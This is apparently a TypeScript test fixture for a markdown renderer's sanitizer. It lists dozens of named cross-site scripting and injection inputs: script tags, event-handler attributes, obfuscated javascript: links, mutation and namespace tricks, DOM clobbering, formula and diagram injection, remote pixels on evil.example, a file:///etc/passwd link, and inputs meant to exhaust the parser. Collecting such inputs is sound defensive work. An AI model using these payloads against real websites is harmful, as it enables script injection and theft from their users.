/** Markdown that tries to run a script, to fetch something, or to get elements of its own onto the page. `hacked` is what they set. */
export const markdownAttacks: Record<string, string> = {
  script: '<script>globalThis.hacked=1</script>',
  'script with a source': '<script src="https://evil.example/x.js"></script>',
  'script in capitals, split': '<ScRiPt\n>globalThis.hacked=1</sCrIpT\t>',
  'image error handler': '<img src=x onerror="globalThis.hacked=1">',
  'image error handler without quotes': '<img/src=x/onerror=globalThis.hacked=1>',
  'image with a source set': '<img srcset="https://evil.example/a.png 1x" src=x onload=globalThis.hacked=1>',
  'svg load handler': '<svg onload="globalThis.hacked=1"><rect width="1" height="1"/></svg>',
  'svg animation': '<svg><animate onbegin=globalThis.hacked=1 attributeName=x dur=1s></svg>',
  'svg use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x"/></svg>',
  'details toggle': '<details open ontoggle="globalThis.hacked=1">x</details>',
  iframe: '<iframe src="javascript:globalThis.parent.hacked=1"></iframe>',
  'iframe with a document': '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  'object and embed':
    '<object data="javascript:globalThis.hacked=1"></object><embed src="javascript:globalThis.hacked=1">',
  form: '<form action="javascript:globalThis.hacked=1"><button formaction="javascript:globalThis.hacked=1">x</button></form>',
  style: '<style>body{background:url("https://evil.example/x")}</style><p style="position:fixed;inset:0">x</p>',
  'base and meta':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  'MathML link':
    '<math><maction actiontype="statusline#https://x" xlink:href="javascript:globalThis.hacked=1">x</maction></math>',
  'mutation by namespace':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.hacked=1&gt;">',
  'template and noscript':
    '<noscript><p title="</noscript><img src=x onerror=globalThis.hacked=1>"></noscript><template><script>1</script></template>',
  'comment that ends early': '<!--><img src=x onerror=globalThis.hacked=1>-->',
  'CDATA section': '<![CDATA[<script>globalThis.hacked=1</script>]]>',
  'processing instruction': '<?xml version="1.0"?><script>globalThis.hacked=1</script>',
  'javascript link': '[click](javascript:globalThis.hacked=1)',
  'javascript link in capitals': '[click](JaVaScRiPt:globalThis.hacked=1)',
  'javascript link with entities':
    '[click](&#106;avascript&colon;globalThis.hacked=1) [b](java&Tab;script:globalThis.hacked=1)',
  'javascript link with control characters':
    '[click](\u0001javascript:globalThis.hacked=1) [b](<java\tscript:globalThis.hacked=1>)',
  'javascript link with escapes': '[click](javascript\\:globalThis.hacked=1) [b](javascript%3AglobalThis.hacked=1)',
  'vbscript, file, blob': '[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:https://x/1) [d](view-source:x)',
  'data link': '[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)',
  'relative link': '[click](/rpc?x) [b](//evil.example) [c](#/settings) [d](settings)',
  'link title that breaks out': '[click](https://example.com "x\\" onmouseover=\\"globalThis.hacked=1")',
  'link address that breaks out': '[click](<https://example.com/" onmouseover="globalThis.hacked=1>)',
  'reference to a javascript address': '[click][x]\n\n[x]: javascript:globalThis.hacked=1 "t"',
  autolinks: '<javascript:globalThis.hacked=1> <https://example.com/"onclick=globalThis.hacked=1> <x@example.com>',
  'literal autolink':
    'www.example.com/"onclick="globalThis.hacked=1 https://example.com/<script>globalThis.hacked=1</script>',
  'remote image': '![pixel](https://evil.example/pixel.png)',
  'image with a data address': '![x](data:image/svg+xml,<svg/onload=globalThis.hacked=1>)',
  'image with a javascript address':
    '![x](javascript:globalThis.hacked=1) [![y](javascript:globalThis.hacked=1)](javascript:globalThis.hacked=1)',
  'image alternative that breaks out': '![x" onerror="globalThis.hacked=1](https://evil.example/a.png)',
  'formula with a link': '$\\href{javascript:globalThis.hacked=1}{x}$ and $$\\url{javascript:globalThis.hacked=1}$$',
  'formula with attributes':
    '$\\htmlData{x=1}{y} \\htmlId{root}{y} \\htmlClass{fixed}{y} \\htmlStyle{position:fixed}{y}$',
  'formula with an image': '\\[\\includegraphics[height=1em]{https://evil.example/a.png}\\]',
  'formula with HTML': '$<img src=x onerror=globalThis.hacked=1>$ \\(\\text{<script>globalThis.hacked=1</script>}\\)',
  'formula without end': '$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$',
  'mermaid diagram':
    '```mermaid\ngraph TD\n A["<img src=x onerror=globalThis.hacked=1>"] --> B\n click A "javascript:globalThis.hacked=1"\n```',
  'fence with a language that breaks out':
    '```js" onload="globalThis.hacked=1\nx\n```\n~~~<img/src=x/onerror=globalThis.hacked=1>\ny\n~~~',
  'code that looks like HTML':
    '```html\n<img src=x onerror=globalThis.hacked=1>\n</code></pre><script>globalThis.hacked=1</script>\n```',
  'nested fences':
    '````md\n```html\n<script>globalThis.hacked=1</script>\n````\n<img src=x onerror=globalThis.hacked=1>\n```',
  'HTML in a table':
    '| a | b |\n|---|---|\n| <img src=x onerror=globalThis.hacked=1> | [x](javascript:globalThis.hacked=1) |\n| `<script>` | <svg/onload=globalThis.hacked=1> |',
  'HTML in a list':
    '- <img src=x onerror=globalThis.hacked=1>\n- > <iframe src=javascript:globalThis.hacked=1>\n  1. <script>globalThis.hacked=1</script>',
  'HTML in a heading': '# <img src=x onerror=globalThis.hacked=1>\n<h1 onclick=globalThis.hacked=1 id=root>x</h1>',
  'task box with attributes': '- [x] <input type=text autofocus onfocus=globalThis.hacked=1>',
  footnote: '[^x]\n\n[^x]: <img src=x onerror=globalThis.hacked=1> [y](javascript:globalThis.hacked=1)',
  'clobbered names': '<a id=root name=body></a><form id=documentElement><input name=attributes></form>',
  'placeholders of the renderer':
    '\uFDD00\uFDD1 \uFDD09\uFDD1 $x$ `\uFDD00\uFDD1` [a](https://x.example/\uFDD00\uFDD1)',
  'deep nesting': `${'>'.repeat(2500)} x\n\n${'['.repeat(500)}x${']'.repeat(500)}`,
}
